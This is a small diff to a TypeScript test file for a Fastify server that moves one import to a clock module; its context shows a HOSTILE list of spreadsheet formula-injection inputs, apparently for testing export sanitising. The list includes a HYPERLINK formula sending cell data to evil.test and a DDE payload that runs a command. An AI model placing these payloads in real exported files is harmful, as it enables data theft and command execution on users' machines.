@@ -4,7 +4,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { FastifyInstance } from 'fastify';
 import { buildProject, buildUser } from '../../server/db/builders';
-import { nowSeconds } from '../../server/services/tokens';
+import { nowSeconds } from '../../server/lib/clock';
 import { call, login, startTestServer } from './support/server';
 
 const HOSTILE = ["=HYPERLINK(\"https://evil.test?\"&A1,\"Open\")", '+1+cmd|/C calc!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
